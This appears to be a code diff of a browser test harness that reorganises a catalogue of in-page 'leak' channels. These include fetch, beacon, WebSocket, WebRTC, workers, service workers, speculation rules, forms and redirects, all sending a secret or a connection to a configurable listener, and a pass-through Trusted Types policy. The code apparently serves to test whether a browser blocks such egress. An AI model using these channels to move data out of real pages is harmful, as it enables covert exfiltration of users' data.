@@ -2,18 +2,14 @@
 // own, so that whoever listens there knows which one it was, even if nothing but a connection arrives.
 
 /**
- * Defines `globalThis.leak(name, { http, host, port, secret, script })` in a page. Serialised and run there: it may
- * use nothing from outside. It throws or does nothing where the browser refuses; the listener decides.
+ * Defines `window.leak(name, { http, host, port, secret, script })` in a page. Like all that follows it is serialised
+ * and run there, so it may use nothing from outside. It throws or does nothing where the browser refuses; the listener
+ * decides.
  */
-export function defineLeaks() {
-  const types = globalThis.trustedTypes;
+function defineTools() {
   const same = (text) => text;
-  const rules = types?.createPolicy("probe", {
-    createHTML: same,
-    createScript: same,
-    createScriptURL: same,
-  }) ?? { createHTML: same, createScript: same, createScriptURL: same };
-
+  const all = { createHTML: same, createScript: same, createScriptURL: same };
+  const rules = window.trustedTypes?.createPolicy("probe", all) ?? all;
   const add = (tag, attributes, parent = document.body) => {
     const element = document.createElement(tag);
     for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
@@ -28,28 +24,24 @@ export function defineLeaks() {
   };
   const click = (attributes) => add("a", attributes).click();
 
-  const inWorker = {
-    fetch: (to) => `fetch(${JSON.stringify(to.http)}, { mode: "no-cors" })`,
-    xhr: (to) =>
-      `const x = new XMLHttpRequest(); x.open("POST", ${JSON.stringify(to.http)}); x.send("${to.secret}")`,
-    websocket: (to) => `new WebSocket(${JSON.stringify(to.http.replace("http", "ws"))})`,
-    eventsource: (to) => `new EventSource(${JSON.stringify(to.http)})`,
-    importscripts: (to) => `importScripts(${JSON.stringify(to.http)})`,
-    import: (to) => `import(${JSON.stringify(to.http)}).catch(() => 0)`,
-    nested: (to) =>
-      `new Worker(URL.createObjectURL(new Blob(['fetch(${JSON.stringify(to.http)}, { mode: "no-cors" })'])))`,
-  };
   const blob = (code) =>
     rules.createScriptURL(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
-  const rtc = (server, scope = globalThis) => {
-    const peer = new scope.RTCPeerConnection({
-      iceServers: [{ urls: server, username: "u", credential: "c" }],
-    });
-    peer.createDataChannel("leak");
-    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  window.leakTools = { rules, add, link, form, click, blob };
+  window.leaks = {};
+  window.leak = async (name, to) => {
+    try {
+      await window.leaks[name](to);
+      return "tried";
+    } catch (error) {
+      return String(error);
+    }
   };
+}
 
-  const leaks = {
+/** Requests that a script makes by name. */
+function defineRequests() {
+  const { rules, add, link, form } = window.leakTools;
+  Object.assign(window.leaks, {
     fetch: (to) => fetch(to.http, { mode: "no-cors" }),
     "fetch-keepalive": (to) =>
       fetch(to.http, { method: "POST", body: to.secret, keepalive: true, mode: "no-cors" }),
@@ -62,6 +54,27 @@ export function defineLeaks() {
     eventsource: (to) => new EventSource(to.http),
     beacon: (to) => navigator.sendBeacon(to.http, to.secret),
     webtransport: (to) => new WebTransport(`https://${to.host}:${to.port}/${to.secret}`),
+    "audio-worklet": (to) => new AudioContext().audioWorklet.addModule(to.http),
+    "speculation-rules": (to) => {
+      const script = document.createElement("script");
+      script.type = "speculationrules";
+      script.textContent = rules.createScript(
+        JSON.stringify({ prefetch: [{ source: "list", urls: [to.http], eagerness: "immediate" }] }),
+      );
+      document.head.append(script);
+    },
+    preconnect: (to) => link("preconnect", to.http),
+    "frame-form": (to) => {
+      add("iframe", { name: "leak-frame" });
+      form(to, "post", "leak-frame");
+    },
+  });
+}
+
+/** Elements and styles that load something. */
+function defineElements() {
+  const { rules, add, link, click } = window.leakTools;
+  Object.assign(window.leaks, {
     image: (to) => {
       new Image().src = to.http;
     },
@@ -93,7 +106,6 @@ export function defineLeaks() {
     modulepreload: (to) => link("modulepreload", to.http),
     prefetch: (to) => link("prefetch", to.http),
     preload: (to) => link("preload", to.http, { as: "fetch", crossorigin: "anonymous" }),
-    preconnect: (to) => link("preconnect", to.http),
     iframe: (to) => add("iframe", { src: to.http }),
     object: (to) => {
       const object = document.createElement("object");
@@ -106,22 +118,42 @@ export function defineLeaks() {
       document.body.append(embed);
     },
     ping: (to) => click({ href: "#ping", ping: to.http }),
-    "audio-worklet": (to) => new AudioContext().audioWorklet.addModule(to.http),
-    "speculation-rules": (to) => {
-      const script = document.createElement("script");
-      script.type = "speculationrules";
-      script.textContent = rules.createScript(
-        JSON.stringify({ prefetch: [{ source: "list", urls: [to.http], eagerness: "immediate" }] }),
-      );
-      document.head.append(script);
-    },
+  });
+}
+
+/** Connections from browser to browser. */
+function defineConnections() {
+  const { add } = window.leakTools;
+  const rtc = (server, scope = window) => {
+    const peer = new scope.RTCPeerConnection({
+      iceServers: [{ urls: server, username: "u", credential: "c" }],
+    });
+    peer.createDataChannel("leak");
+    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  };
+
+  Object.assign(window.leaks, {
     "webrtc-stun": (to) => rtc(`stun:${to.host}:${to.port}`),
     "webrtc-turn": (to) => rtc(`turn:${to.host}:${to.port}?transport=tcp`),
     "webrtc-frame": (to) => rtc(`stun:${to.host}:${to.port}`, add("iframe", {}).contentWindow),
-    "frame-form": (to) => {
-      add("iframe", { name: "leak-frame" });
-      form(to, "post", "leak-frame");
-    },
+  });
+}
+
+/** Workers of every kind, and what one from a blob can do. */
+function defineWorkers() {
+  const { rules, blob } = window.leakTools;
+  const inWorker = {
+    fetch: (to) => `fetch(${JSON.stringify(to.http)}, { mode: "no-cors" })`,
+    xhr: (to) =>
+      `const x = new XMLHttpRequest(); x.open("POST", ${JSON.stringify(to.http)}); x.send("${to.secret}")`,
+    websocket: (to) => `new WebSocket(${JSON.stringify(to.http.replace("http", "ws"))})`,
+    eventsource: (to) => `new EventSource(${JSON.stringify(to.http)})`,
+    importscripts: (to) => `importScripts(${JSON.stringify(to.http)})`,
+    import: (to) => `import(${JSON.stringify(to.http)}).catch(() => 0)`,
+    nested: (to) =>
+      `new Worker(URL.createObjectURL(new Blob(['fetch(${JSON.stringify(to.http)}, { mode: "no-cors" })'])))`,
+  };
+  Object.assign(window.leaks, {
     "worker-url": (to) => {
       new Worker(rules.createScriptURL(to.script)).postMessage(to.http);
     },
@@ -137,6 +169,19 @@ export function defineLeaks() {
       const url = `${to.script}?to=${encodeURIComponent(to.http)}`;
       await navigator.serviceWorker.register(rules.createScriptURL(url));
     },
+  });
+  for (const [name, code] of Object.entries(inWorker)) {
+    window.leaks[`worker-${name}`] = (to) => {
+      const worker = new Worker(blob(code(to)));
+      worker.onerror = (event) => event.preventDefault();
+    };
+  }
+}
+
+/** Leaving the page, and opening another. */
+function defineDepartures() {
+  const { add, form, click } = window.leakTools;
+  Object.assign(window.leaks, {
     "open-window": (to) => open(to.http),
     "open-link": (to) => click({ href: to.http, target: "_blank", rel: "noopener" }),
     "form-window": (to) => form(to, "post", "_blank"),
@@ -151,23 +196,18 @@ export function defineLeaks() {
     "go-form-post": (to) => form(to, "post"),
     "go-refresh": (to) =>
       add("meta", { "http-equiv": "refresh", content: `0;url=${to.http}` }, document.head),
-  };
-  for (const [name, code] of Object.entries(inWorker)) {
-    leaks[`worker-${name}`] = (to) => {
-      const worker = new Worker(blob(code(to)));
-      worker.onerror = (event) => event.preventDefault();
-    };
-  }
-  globalThis.leak = async (name, to) => {
-    try {
-      await leaks[name](to);
-      return "tried";
-    } catch (error) {
-      return String(error);
-    }
-  };
-  return Object.keys(leaks);
+  });
 }
+
+/** To be run in a page, in this order. */
+export const definitions = [
+  defineTools,
+  defineRequests,
+  defineElements,
+  defineConnections,
+  defineWorkers,
+  defineDepartures,
+];
 
 /**
  * Channels that are tried on a page of their own: some take the page away, and Chromium 156 ends a page
